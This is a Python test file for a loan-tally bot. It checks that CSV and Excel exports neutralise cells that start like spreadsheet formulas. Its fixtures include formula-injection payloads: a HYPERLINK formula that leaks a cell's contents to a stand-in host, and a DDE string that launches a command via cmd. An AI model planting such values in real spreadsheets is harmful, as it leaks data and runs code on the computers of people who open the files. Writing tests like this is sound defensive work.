"""Names and contract numbers come from the bank's file: in the tallies the product writes
(`export-tallies` as CSV and .xlsx, the officer's .xlsx in the chat) a cell that starts
like a formula stays text, so opening the file in Excel or LibreOffice runs nothing."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import select

from bot.inbound.router import Router
from handlers.rules import tally
from storage import tallies
from storage.importer import import_file
from storage.schema import customers
from tests.bankfiles import write_csv
from tests.bot_fixtures import LOAN_HEADER, NOW, TZ, Harness
from tests.test_officer_stories import OFFICER_CHAT, link_officer
from tests.test_tally_rules_and_export import SESSION, export

EVIL_NAME = '=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm vào đây")'
EVIL_CONTRACT = "+1+2"
EVIL_GROUP = "@SUM(1+1)*cmd|' /C calc'!A0"
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


async def evil_group_submitted(h: Harness) -> None:
    """Group T66 of Đại Tâm, whose names in the bank's file start like formulas, with a
    tally submitted for the session."""
    header = [*LOAN_HEADER[:10], "Lãi DT trong tháng"]
    member = ("31/10/2026", "T66", EVIL_GROUP, "Đại Tâm")
    rows = [
        ["KH661", EVIL_NAME, EVIL_CONTRACT, 1, 10_000_000, 0, *member, 110_000],
        ["KH662", "-Thị Tab", "\tKU662", 1, 5_000_000, 0, *member, 55_000],
        ["KH663", "Người Bình Thường", "KU663", 1, 5_000_000, 0, *member, 55_000],
    ]
    leaders = [["T66", "KH663", "50.000"]]
    for path in (
        write_csv(h.folder / "t66.csv", header, rows),
        write_csv(
            h.folder / "t66_leader.csv", ["Mã tổ", "Mã KH tổ trưởng", "Tiền gửi tối thiểu"], leaders
        ),
    ):
        report = await import_file(h.engine, path)
        assert report.error is None, report.error
    async with h.engine.begin() as conn:
        group_id = (
            await conn.execute(select(customers.c.group_id).where(customers.c.code == "KH661"))
        ).scalar_one()
        group = await tallies.group_info(conn, int(group_id))
        assert group is not None
        lines = await tallies.expected_lines(conn, group)
        assert {x.name for x in lines} >= {EVIL_NAME, "-Thị Tab"}  # the importer kept them
        submitter = next(x.customer_id for x in lines if x.name == EVIL_NAME)
        await tallies.submit(conn, group, SESSION, lines, tally.totals(lines), submitter, NOW)


def text_cells_are_text(sheet: Worksheet) -> list[str]:
    """Every cell whose value looks like a formula is stored as a string, not a formula."""
    risky = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str) and cell.value.startswith(DANGEROUS_STARTS):
                assert cell.data_type == "s", (cell.coordinate, cell.value)
                risky.append(cell.value)
    return risky


async def test_the_csv_neutralises_cells_that_start_like_a_formula(harness: Harness) -> None:
    await evil_group_submitted(harness)
    result = await export(harness, "--period", "2026-12")
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    line = next(r for r in rows if r[9] == "KH661")
    assert line[8] == "'" + EVIL_NAME and line[10] == "'" + EVIL_CONTRACT
    assert line[2] == "'" + EVIL_GROUP and line[6] == "'" + EVIL_NAME  # group, submitter
    tab = next(r for r in rows if r[9] == "KH662")
    assert tab[8] == "'-Thị Tab" and tab[10] == "KU662"  # the importer trimmed the tab
    plain = next(r for r in rows if r[9] == "KH663")
    assert plain[8] == "Người Bình Thường" and plain[11] == "5000000"  # numbers stay numbers
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS_STARTS), cell


async def test_the_xlsx_export_writes_names_as_text_not_formulas(
    harness: Harness, tmp_path: Path
) -> None:
    await evil_group_submitted(harness)
    out = tmp_path / "bang_ke.xlsx"
    result = await export(harness, "--format", "xlsx", "--out", str(out))
    assert result.returncode == 0, result.stderr
    sheet = load_workbook(out)["T66 17-12"]
    risky = text_cells_are_text(sheet)
    assert EVIL_NAME in risky and EVIL_CONTRACT in risky and "-Thị Tab" in risky
    name = next(c for row in sheet.iter_rows() for c in row if c.value == EVIL_NAME)
    assert name.data_type == "s" and name.quotePrefix  # shown as typed, edited as text
    totals = [row for row in sheet.iter_rows(values_only=True) if row[0] == "Cộng"]
    assert totals[0][4] == 20_000_000  # the money cells are still numbers


async def test_the_officers_xlsx_in_the_chat_writes_names_as_text(harness: Harness) -> None:
    from bot.channels.telegram.updates import polling

    h = harness
    await evil_group_submitted(h)
    async with polling(h.settings, Router(h.engine, TZ, clock=lambda: NOW), poll_timeout=0.5):
        await link_officer(h)
        h.fake.user_says(OFFICER_CHAT, "tình hình bảng kê")
        await h.fake.replies(OFFICER_CHAT, 2, after=1)
    [document] = h.fake.sent(OFFICER_CHAT, "sendDocument")
    book = load_workbook(io.BytesIO(document.params["document"]["content"]))
    risky = text_cells_are_text(book["T66 17-12"])
    assert EVIL_NAME in risky and EVIL_CONTRACT in risky


def test_tab_and_carriage_return_starts_and_sheet_names_a_file_may_hold() -> None:
    from datetime import UTC, datetime

    from handlers.tally.export import csv_safe, xlsx_bytes
    from storage.tallies import ExportLine

    assert [csv_safe(v) for v in ("\tx", "\rx", "-5", "a=b", -5, 0)] == [
        "'\tx",
        "'\rx",
        "'-5",
        "a=b",
        -5,
        0,
    ]
    odd = ExportLine(
        "Đại Tâm", "T/1:[2]*?", "=Tổ", SESSION, 1, "BK-1", "", datetime(2026, 12, 17, tzinfo=UTC),
        1, "Tên\x07 lạ\x00", "KH1", "@KU1", 1, 2, 3, 4, 5, 6, False,
    )  # fmt: skip
    book = load_workbook(io.BytesIO(xlsx_bytes([odd], UTC)))
    [sheet] = book.worksheets
    assert sheet.title == "T_1__2___ 17-12"
    values = [c.value for row in sheet.iter_rows() for c in row]
    assert "Tên lạ" in values and "@KU1" in values
    assert text_cells_are_text(sheet) == ["@KU1"]
